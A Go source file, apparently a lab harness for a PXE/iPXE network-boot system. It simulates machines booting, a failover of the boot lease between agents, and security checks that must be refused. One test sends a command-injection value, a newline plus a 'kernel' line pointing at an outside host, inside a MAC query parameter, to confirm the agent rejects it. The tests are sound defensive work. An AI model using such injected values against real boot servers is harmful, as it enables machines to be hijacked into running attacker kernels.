package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/insomniacslk/dhcp/dhcpv4"
	"github.com/insomniacslk/dhcp/iana"

	"github.com/bettercompute/siteboot/assertion"
	"github.com/bettercompute/siteboot/bmc/bmctest"
	"github.com/bettercompute/siteboot/examples/siteagent/agent"
	"github.com/bettercompute/siteboot/hwid"
	"github.com/bettercompute/siteboot/imagecache"
	"github.com/bettercompute/siteboot/internal/simmachine"
	"github.com/bettercompute/siteboot/sitelink"
	"github.com/bettercompute/siteboot/sitetls"
	"github.com/bettercompute/siteboot/sitetls/sitetlstest"
)

// outcome is one machine's boot, as the summary shows it.
type outcome struct {
	name    string
	mac     hwid.MAC
	agent   string
	res     *simmachine.Result
	err     error
	joined  bool
	fromURL string // where the ramdisk got the deploy image
}

// check is one thing that must have happened, and whether it did.
type check struct {
	what string
	ok   bool
	note string
}

func run(ctx context.Context, log *slog.Logger, out *printer, n int) (bool, error) {
	_, ok, err := runLab(ctx, log, out, n)
	return ok, err
}

// runLab is run, and returns the lab for a test to look into.
func runLab(ctx context.Context, log *slog.Logger, out *printer, n int) (*lab, bool, error) {
	start := time.Now()
	out.section("1. Site")
	l, err := newLab(ctx, log)
	if err != nil {
		return nil, false, err
	}
	var checks []check
	must := func(what string, ok bool, note string, args ...any) {
		checks = append(checks, check{what, ok, fmt.Sprintf(note, args...)})
	}

	a, err := l.addAgent(ctx, "agent-a", netip.MustParseAddr("127.0.0.2"))
	if err != nil {
		return nil, false, err
	}
	if err := waitFor(ctx, 10*time.Second, func() bool { return a.a.Fence().Active }); err != nil {
		return nil, false, fmt.Errorf("agent-a never became the boot server: %w", err)
	}
	b, err := l.addAgent(ctx, "agent-b", netip.MustParseAddr("127.0.0.3"))
	if err != nil {
		return nil, false, err
	}
	out.linef("image origin      %s (kernel %s, initrd %s, deploy image %s)", l.origin, size(l.kernel), size(l.initrd), size(l.deploy))
	out.linef("control plane     %s (lease TTL %v, tick every 250ms; mutual TLS, site CA made at start)", l.planeURL, leaseTTL)
	for _, x := range l.agents {
		ad := x.a.Addrs()
		out.linef("%-17s proxy DHCP %s + %s, TFTP %s, HTTP %s", x.name, ad["dhcp"], ad["pxe"], ad["tftp"], ad["http"])
	}
	fa := a.a.Fence()
	out.linef("agent-a holds the boot lease at epoch %d; agent-b stands by", fa.Epoch)

	// Boot entries for the known machines, on both agents (each would get its own on a
	// failover in a real site; giving both at once keeps the lab short).
	entries := make([]sitelink.ProxyDhcpEntry, 0, n)
	for i := 1; i <= n; i++ {
		entries = append(entries, sitelink.ProxyDhcpEntry{
			MAC: machineMAC(i), UUID: machineUUID(i).String(), Arch: sitelink.ArchX86UEFI,
			Workflow: fmt.Sprintf("wf-%02d", i), NotAfter: time.Now().Add(2 * time.Hour), TokenRef: fmt.Sprintf("tok-%02d", i),
		})
	}
	for _, x := range l.agents {
		l.plane.PrepareRamdisk(x.name, entries)
	}
	// The site section (what each agent's report says of its images and sanboot entries):
	// PROGRESSING while the deploy image warms (the origin holds it), READY once verified.
	defer l.release()
	var sec sitelink.SectionStatus
	warming := waitFor(ctx, 15*time.Second, func() bool {
		var ok bool
		sec, ok = l.plane.Section(a.name)
		return ok && sec.State == sitelink.SectionProgressing && slices.Contains(sec.Warming, l.deploy.sha256)
	}) == nil
	out.linef("agent-a's site section: %s", sectionLine(sec, l))
	must("agent-a's site section is PROGRESSING while the deploy image warms", warming, "reported %s", sectionLine(sec, l))
	l.release()
	ready := waitFor(ctx, 30*time.Second, func() bool {
		var ok bool
		sec, ok = l.plane.Section(a.name)
		return ok && sec.State == sitelink.SectionReady
	}) == nil
	out.linef("agent-a's site section: %s", sectionLine(sec, l))
	must("agent-a's site section is READY once the deploy image is verified", ready, "reported %s", sectionLine(sec, l))

	if err := waitFor(ctx, 30*time.Second, func() bool {
		_, okA := a.a.Entries().Lookup(machineMAC(n))
		_, okB := b.a.Entries().Lookup(machineMAC(n))
		return okA && okB && cacheReady(a.a, l) && cacheReady(b.a, l)
	}); err != nil {
		return nil, false, fmt.Errorf("agents never got their entries and images: %w", err)
	}
	out.linef("%d boot entries on each agent; kernel, initrd and deploy image pulled and verified into both caches", n)

	// The standby must refuse to boot anyone.
	st, _ := httpGet(ctx, b.a.HTTPBase()+"/boot/ipxe?mac="+machineMAC(1).String())
	must("agent-b, not holding the lease, refuses scripts (503, fenced)", st == http.StatusServiceUnavailable, "answered %d", st)

	half := n / 2
	out.section(fmt.Sprintf("2. Machines 1-%d and one unknown machine boot (agent-a is the boot server)", half))
	var outcomes []*outcome
	var mu sync.Mutex
	wave := func(from, to int, extra []int, attempts int) {
		var wg sync.WaitGroup
		for i := from; i <= to; i++ {
			wg.Go(func() {
				o := l.boot(ctx, out, i, attempts)
				mu.Lock()
				outcomes = append(outcomes, o)
				mu.Unlock()
			})
			time.Sleep(20 * time.Millisecond)
		}
		for _, i := range extra {
			wg.Go(func() {
				o := l.boot(ctx, out, i, 2)
				mu.Lock()
				outcomes = append(outcomes, o)
				mu.Unlock()
			})
		}
		wg.Wait()
	}
	const unknown = 250
	wave(1, half, []int{unknown}, 4)

	// An assertion agent-a signs now and nobody uses: after the failover it must be refused.
	spare, err := l.scriptAssertion(ctx, a, 1)
	must("agent-a signs a spare assertion before the failover", err == nil && spare != "", "%v", err)
	// A ramdisk's assertion presented a second time.
	if o := find(outcomes, 1); o.err == nil {
		_, err := l.verifier.Verify(ctx, o.res.Param("bc.assertion"), joinOf(1))
		must("a replayed assertion is refused (replay)", assertion.ReasonOf(err) == assertion.ReasonReplay, "%v", err)
	} else {
		must("a replayed assertion is refused (replay)", false, "machine 1 did not boot")
	}

	// The unknown machine: no answer, and listed as discovered.
	var listed bool
	waitFor(ctx, 3*time.Second, func() bool {
		listed = slices.ContainsFunc(l.plane.Discovered("agent-a"), func(d sitelink.DiscoveredMachine) bool { return d.MAC == machineMAC(unknown).String() })
		return listed
	})
	must("the unknown machine got no answer and fell through to its next boot device", errors.Is(find(outcomes, unknown).err, simmachine.ErrNoOffer), "%v", find(outcomes, unknown).err)
	must("the unknown machine is listed as discovered in agent-a's status report", listed, "mac %s", machineMAC(unknown))
	out.linef("discovered by agent-a: %s (uuid %s), reported to the control plane", machineMAC(unknown), machineUUID(unknown))

	out.section(fmt.Sprintf("3. agent-a stops; machines %d-%d boot while the lease fails over to agent-b", half+1, n))
	l.readMetrics(ctx, a)
	// Machine n boots through its BMC: the control plane's ensureRamdisk runs through
	// agent-a, which is stopped right after it power-cycled the machine (bmc.go).
	ramdisk, err := l.ensureRamdiskThenStop(ctx, out, a, n)
	if err != nil {
		return nil, false, err
	}
	aFenceEnds, stopped := ramdisk.fenceEnds, ramdisk.stopped
	<-a.done
	out.linef("agent-a stopped at +%.1fs: no more heartbeats; its fence would end within %.1fs", time.Since(start).Seconds(), time.Until(aFenceEnds).Seconds())
	var bActive time.Time
	var bEpoch uint64
	watchDone := make(chan struct{})
	go func() {
		defer close(watchDone)
		waitFor(ctx, 20*time.Second, func() bool {
			if fs := b.a.Fence(); fs.Active {
				bActive, bEpoch = time.Now(), fs.Epoch
				out.linef("agent-b became the boot server at epoch %d, %.1fs after agent-a stopped", bEpoch, bActive.Sub(stopped).Seconds())
				return true
			}
			return false
		})
	}()
	wave(half+1, n, nil, 15)
	<-watchDone
	must("agent-b took over only after agent-a's fence had ended", !bActive.IsZero() && !bActive.Before(aFenceEnds), "took over %.2fs after the fence ended", bActive.Sub(aFenceEnds).Seconds())
	must("the epoch moved on with the holder", bEpoch > fa.Epoch, "epoch %d -> %d", fa.Epoch, bEpoch)
	ramdisk.check(ctx, out, must)

	out.section("4. What was refused, and why")
	_, err = l.verifier.Verify(ctx, spare, joinOf(1))
	must("agent-a's unused assertion is refused after the failover (stale-epoch)", assertion.ReasonOf(err) == assertion.ReasonStaleEpoch, "%v", err)
	var guess [16]byte
	rand.Read(guess[:])
	st, _ = httpGet(ctx, b.a.HTTPBase()+"/cache/t/"+hex.EncodeToString(guess[:])+"/"+l.deploy.sha256)
	must("a guessed cache grant is refused (404)", st == http.StatusNotFound, "answered %d", st)
	st, _ = httpGet(ctx, b.a.HTTPBase()+"/cache/"+l.deploy.sha256)
	must("a plain /cache/SHA256 without a grant is refused (404)", st == http.StatusNotFound, "answered %d", st)
	st, injected := httpGet(ctx, b.a.HTTPBase()+"/boot/ipxe?mac=52:54:00:5b:00:01%0Akernel%20http://203.0.113.9/x")
	must("a script request that tries to inject a command is refused (exit script)", gaveUp(st, injected), "answered %d", st)
	st, macOnly := httpGet(ctx, b.a.HTTPBase()+"/boot/ipxe?mac="+machineMAC(1).String())
	must("a script request naming only a known MAC is refused, no secret in it (exit script, no-nonce)", gaveUp(st, macOnly), "answered %d", st)
	// The boot binding (S1): proxy DHCP answers no requester off the provisioning
	// segments, and a nonce belongs to the address its answer went to.
	before := b.a.Stats()["proxydhcp_silent_off-segment_67"]
	askDHCP(ctx, netip.MustParseAddrPort(b.a.Addrs()["dhcp"]), netip.MustParseAddr("127.0.0.1"), machineMAC(1), netip.MustParseAddr("198.51.100.77"), true)
	offSeg := b.a.Stats()["proxydhcp_silent_off-segment_67"] - before
	must("a requester whose answer would go to another network (198.51.100.77) is refused (off-segment)", offSeg == 1, "counted %d", offSeg)
	file := askDHCP(ctx, netip.MustParseAddrPort(b.a.Addrs()["pxe"]), machineIP(1), machineMAC(1), machineIP(1), false)
	nonce := ""
	if u, err := url.Parse(file); err == nil {
		nonce = u.Query().Get("n")
	}
	st, read := getWith(ctx, machineClient(netip.MustParseAddr("127.0.0.66")), b.a.HTTPBase()+"/boot/ipxe?mac="+machineMAC(1).String()+"&n="+nonce)
	must("a bystander presenting the machine's nonce first, from its own address, is refused (exit script, nonce-other-address)",
		nonce != "" && gaveUp(st, read), "nonce %q, answered %d", nonce, st)
	// The control link: only the node a certificate names speaks for it.
	stranger, err := l.nodeClient(siteIdentity("agent-x"))
	if err != nil {
		return nil, false, err
	}
	st, body := l.post(ctx, stranger, "/v1/sync", sitelink.StatusReport{Site: siteID, Node: "agent-b", Beat: 1, Acked: l.plane.Pending("agent-b")})
	must("a stranger's sync in agent-b's name is refused (403)", st == http.StatusForbidden, "answered %d: %s", st, body)
	st, body = l.post(ctx, stranger, "/v1/token", sitelink.TokenRequest{Node: "agent-b", Workflow: "wf-01", Ref: "tok-01"})
	must("a stranger asking for machine 1's token is refused (403)", st == http.StatusForbidden, "answered %d: %s", st, body)
	// BMC access: a credential only to, and a claim only from, the node a live command is
	// routed to. agent-x is enrolled from here on, with a valid certificate of the site, and
	// nothing is routed to it; m06's commands have ended.
	l.plane.Enroll(siteID, "agent-x")
	st, body = l.post(ctx, stranger, "/v1/bmc/credential", sitelink.CredentialRequest{Node: "agent-x", Ref: fmt.Sprintf("bmc/m%d", n)})
	must("an enrolled agent asking for a BMC credential no live command routed to it names is refused (403)",
		st == http.StatusForbidden && !strings.Contains(body, bmctest.DefaultPassword), "answered %d: %s", st, body)
	st, body = l.post(ctx, stranger, "/v1/bmc/claim", sitelink.ClaimRequest{Node: "agent-x", ID: ramdisk.steps.PowerID, Op: "power", Journal: "j-x"})
	must("an enrolled agent claiming a command not routed to it is refused (403)", st == http.StatusForbidden, "answered %d: %s", st, body)
	st, body = l.post(ctx, &http.Client{Timeout: 5 * time.Second}, "/v1/sync", sitelink.StatusReport{Site: siteID, Node: "agent-b"})
	must("a caller without a site certificate is refused at the TLS handshake", st == 0, "%s", body)
	plain := b.cfg
	plain.Control.URL = strings.Replace(plain.Control.URL, "https://", "http://", 1)
	plain.Control.CertFile, plain.Control.CAFile = "", ""
	err = plain.Validate()
	must("a plain-http control URL is refused by the config check (siteagent -check)", errors.Is(err, agent.ErrPlainHTTP), "%v", err)
	for _, c := range checks {
		if strings.Contains(c.what, "refuse") {
			out.linef("%s  %s: %s", mark(c.ok), c.what, c.note)
		}
	}
	l.readMetrics(ctx, b)

	out.section("5. Summary")
	return l, l.summary(out, outcomes, checks, n, unknown, time.Since(start)), nil
}

// getWith GETs u with c.
func getWith(ctx context.Context, c *http.Client, u string) (int, string) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
	if err != nil {
		return 0, err.Error()
	}
	resp, err := c.Do(req)
	if err != nil {
		return 0, err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return resp.StatusCode, string(b)
}

// askDHCP sends iPXE's DHCP request for mac (a DISCOVER to port 67, a REQUEST to 4011;
// ciaddr set) to to from the address from, and returns the boot file of the answer that comes
// back within a second, or "".
func askDHCP(ctx context.Context, to netip.AddrPort, from netip.Addr, mac hwid.MAC, ciaddr netip.Addr, discover bool) string {
	conn, err := net.ListenUDP("udp4", net.UDPAddrFromAddrPort(netip.AddrPortFrom(from, 0)))
	if err != nil {
		return ""
	}
	defer conn.Close()
	typ := dhcpv4.MessageTypeRequest
	if discover {
		typ = dhcpv4.MessageTypeDiscover
	}
	req, err := dhcpv4.New(dhcpv4.WithHwAddr(net.HardwareAddr(mac[:])), dhcpv4.WithMessageType(typ),
		dhcpv4.WithClientIP(net.IP(ciaddr.AsSlice())),
		dhcpv4.WithOption(dhcpv4.OptClassIdentifier("PXEClient:Arch:00007:UNDI:003010")),
		dhcpv4.WithOption(dhcpv4.OptClientArch(iana.EFI_X86_64)),
		dhcpv4.WithGeneric(dhcpv4.OptionUserClassInformation, []byte("iPXE")))
	if err != nil {
		return ""
	}
	conn.WriteToUDPAddrPort(req.ToBytes(), to)
	conn.SetReadDeadline(time.Now().Add(time.Second))
	buf := make([]byte, 1500)
	for ctx.Err() == nil {
		n, _, err := conn.ReadFromUDPAddrPort(buf)
		if err != nil {
			return ""
		}
		if rep, err := dhcpv4.FromBytes(buf[:n]); err == nil && rep.TransactionID == req.TransactionID {
			return rep.BootFileName
		}
	}
	return ""
}

func siteIdentity(node string) sitetls.Identity { return sitetls.Identity{Site: siteID, Node: node} }

// nodeClient is an HTTPS client presenting a certificate the site's CA issued for id.
func (l *lab) nodeClient(id sitetls.Identity) (*http.Client, error) {
	p, err := l.ca.Issue(sitetlstest.Request{Node: id})
	if err != nil {
		return nil, err
	}
	cert, key := filepath.Join(l.dir, id.Node+".pem"), filepath.Join(l.dir, id.Node+".key")
	if err := p.WriteFiles(cert, key); err != nil {
		return nil, err
	}
	creds, err := sitetls.Load(sitetls.Config{CertFile: cert, KeyFile: key, CAFile: l.caFile})
	if err != nil {
		return nil, err
	}
	return &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{TLSClientConfig: creds.ClientConfig("127.0.0.1")}}, nil
}

// post sends v as JSON to the control plane and returns the status (0 when no answer came)
// and the body or the error.
func (l *lab) post(ctx context.Context, c *http.Client, path string, v any) (int, string) {
	b, _ := json.Marshal(v)
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, l.planeURL+path, bytes.NewReader(b))
	if err != nil {
		return 0, err.Error()
	}
	resp, err := c.Do(req)
	if err != nil {
		return 0, err.Error()
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<10))
	// An error answer of the link is a sitelink.Error: its code says why.
	var e sitelink.Error
	if resp.StatusCode != http.StatusOK && json.Unmarshal(body, &e) == nil && e.Code != "" {
		return resp.StatusCode, e.Code
	}
	return resp.StatusCode, strings.TrimSpace(string(body))
}

// readMetrics keeps an agent's /metrics, for the check that no secret is in them.
func (l *lab) readMetrics(ctx context.Context, la *labAgent) {
	_, body := httpGet(ctx, "http://"+la.a.Addrs()["metrics"]+"/metrics")
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.metrics == nil {
		l.metrics = map[string]string{}
	}
	l.metrics[la.name] = body
}

func joinOf(i int) assertion.Join {
	return assertion.Join{Site: siteID, MACs: []hwid.MAC{machineMAC(i)}, UUID: machineUUID(i)}
}

func find(os []*outcome, i int) *outcome {
	for _, o := range os {
		if o.mac == machineMAC(i) {
			return o
		}
	}
	return &outcome{err: errors.New("did not run")}
}

// boot runs machine i and, when it booted, what its ramdisk does first: join with the
// assertion and token, and stream the deploy image from the cache.
func (l *lab) boot(ctx context.Context, out *printer, i, attempts int) *outcome {
	m := &simmachine.Machine{
		Name: fmt.Sprintf("m%02d", i), MAC: machineMAC(i), UUID: machineUUID(i), IP: machineIP(i),
		ClientPort: clientPort, DHCPServers: l.dhcpServers(), TFTPAddr: l.tftpAddr,
		DHCPTimeout: 700 * time.Millisecond, DHCPAttempts: attempts, SleepScale: 0.05,
		HTTP: machineClient(machineIP(i)),
	}
	if l.log.Enabled(ctx, slog.LevelInfo) {
		m.OnEvent = func(m *simmachine.Machine, msg string) { l.log.Info(msg, "machine", m.Name) }
	}
	o := &outcome{name: m.Name, mac: m.MAC}
	o.res, o.err = m.Boot(ctx)
	if o.err == nil {
		o.agent = l.agentByIP(o.res.Server)
		o.err = l.ramdisk(ctx, i, o)
		o.joined = o.err == nil
	}
	out.machine(o)
	return o
}

// ramdisk checks what the script handed the machine, as the ramdisk and the control plane
// would: the kernel and initrd came from the cache under a grant and match their digests,
// the token is the one minted for the entry, the assertion verifies, and the deploy image
// streams from bc.cache with its digest checked.
func (l *lab) ramdisk(ctx context.Context, i int, o *outcome) error {
	r := o.res
	l.secret(r.Param("bc.token"), r.Param("bc.assertion"), grantOf(r.Kernel.URL), grantOf(r.Param("bc.cache")))
	for _, im := range r.Initrds {
		l.secret(grantOf(im.URL))
	}
	if r.Kernel.SHA256 != l.kernel.sha256 || len(r.Initrds) != 1 || r.Initrds[0].SHA256 != l.initrd.sha256 {
		return errors.New("kernel or initrd bytes do not match their digests")
	}
	if !strings.Contains(r.Kernel.URL, "/cache/t/") || !strings.Contains(r.Initrds[0].URL, "/cache/t/") {
		return fmt.Errorf("kernel not served through a cache grant: %s", r.Kernel.URL)
	}
	if want := l.plane.TokenFor(fmt.Sprintf("wf-%02d", i), fmt.Sprintf("tok-%02d", i)); r.Param("bc.token") != want {
		return errors.New("bc.token is not the machine's discovery token")
	}
	a, err := l.verifier.Verify(ctx, r.Param("bc.assertion"), joinOf(i))
	if err != nil {
		return fmt.Errorf("assertion: %w", err)
	}
	if a.Agent != o.agent {
		return fmt.Errorf("assertion signed by %s, booted by %s", a.Agent, o.agent)
	}
	d, _ := imagecache.ParseDigest(l.deploy.sha256)
	f := &imagecache.Fetcher{}
	o.fromURL, err = f.Fetch(ctx, d, filepath.Join(l.dir, o.name+".raw"), r.Param("bc.cache")+l.deploy.sha256, l.origin+"/images/"+l.deploy.name)
	if err != nil {
		return fmt.Errorf("deploy image: %w", err)
	}
	if !strings.HasPrefix(o.fromURL, r.Param("bc.cache")) {
		return fmt.Errorf("deploy image came from %s, not the cache", o.fromURL)
	}
	return nil
}

// scriptAssertion boots machine i once more through one agent only, as far as its script,
// and returns the assertion the script carries without using it. (A script with an
// assertion goes only to a machine the agent answered by DHCP, from its own address.)
func (l *lab) scriptAssertion(ctx context.Context, la *labAgent, i int) (string, error) {
	m := &simmachine.Machine{
		Name: fmt.Sprintf("m%02d-spare", i), MAC: machineMAC(i), UUID: machineUUID(i), IP: machineIP(i),
		ClientPort: clientPort, DHCPServers: []netip.AddrPort{netip.MustParseAddrPort(la.a.Addrs()["dhcp"])}, TFTPAddr: l.tftpAddr,
		DHCPTimeout: 700 * time.Millisecond, DHCPAttempts: 4, SleepScale: 0.05, HTTP: machineClient(machineIP(i)),
	}
	r, err := m.Boot(ctx)
	if err != nil {
		return "", err
	}
	if a := r.Param("bc.assertion"); a != "" {
		l.secret(a, r.Param("bc.token"))
		return a, nil
	}
	return "", errors.New("no bc.assertion in the script")
}

// machineClient is an HTTP client whose connections come from the machine's own address, as
// a real machine's do: the agent binds a boot to the address that fetched it.
func machineClient(ip netip.Addr) *http.Client {
	d := &net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(ip, 0)), Timeout: 5 * time.Second}
	return &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{DialContext: d.DialContext, MaxIdleConnsPerHost: 2}}
}

// grantOf is the grant in a cache URL (.../t/GRANT/...), or "".
func grantOf(u string) string {
	_, rest, ok := strings.Cut(u, "/t/")
	if !ok {
		return ""
	}
	g, _, _ := strings.Cut(rest, "/")
	return g
}

// sectionLine is a site section as bootlab prints it: the state, the images warming by
// name, the failures.
func sectionLine(s sitelink.SectionStatus, l *lab) string {
	if s.State == "" {
		return "(no report yet)"
	}
	names := map[string]string{l.kernel.sha256: l.kernel.name, l.initrd.sha256: l.initrd.name, l.deploy.sha256: l.deploy.name}
	name := func(d string) string {
		if n, ok := names[d]; ok {
			return n
		}
		return d
	}
	line := s.State
	if len(s.Warming) > 0 {
		var w []string
		for _, d := range s.Warming {
			w = append(w, name(d))
		}
		line += " (warming: " + strings.Join(w, ", ") + ")"
	}
	for _, f := range s.Failures {
		line += "; failed: " + name(f.SHA256) + " " + f.Reason
		if f.MAC != "" {
			line += " for " + f.MAC
		}
	}
	return line
}

func cacheReady(a *agent.Agent, l *lab) bool {
	for _, im := range []image{l.kernel, l.initrd, l.deploy} {
		d, _ := imagecache.ParseDigest(im.sha256)
		if _, ok := a.Cache().Lookup(d); !ok {
			return false
		}
	}
	return true
}

// gaveUp says whether a script answer is the give-up: the exit script, answered 200 so that
// iPXE runs it and the firmware moves on to its next boot entry, with no secret in it.
func gaveUp(status int, body string) bool {
	return status == http.StatusOK && strings.HasSuffix(strings.TrimSpace(body), "exit 1") &&
		!strings.Contains(body, "kernel") && !strings.Contains(body, "bc.token")
}

func httpGet(ctx context.Context, u string) (int, string) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
	if err != nil {
		return 0, ""
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return 0, ""
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return resp.StatusCode, string(b)
}

func waitFor(ctx context.Context, limit time.Duration, cond func() bool) error {
	deadline := time.Now().Add(limit)
	for !cond() {
		if time.Now().After(deadline) {
			return fmt.Errorf("not within %v", limit)
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(20 * time.Millisecond):
		}
	}
	return nil
}

func size(im image) string { return fmt.Sprintf("%d MiB", len(im.data)>>20) }
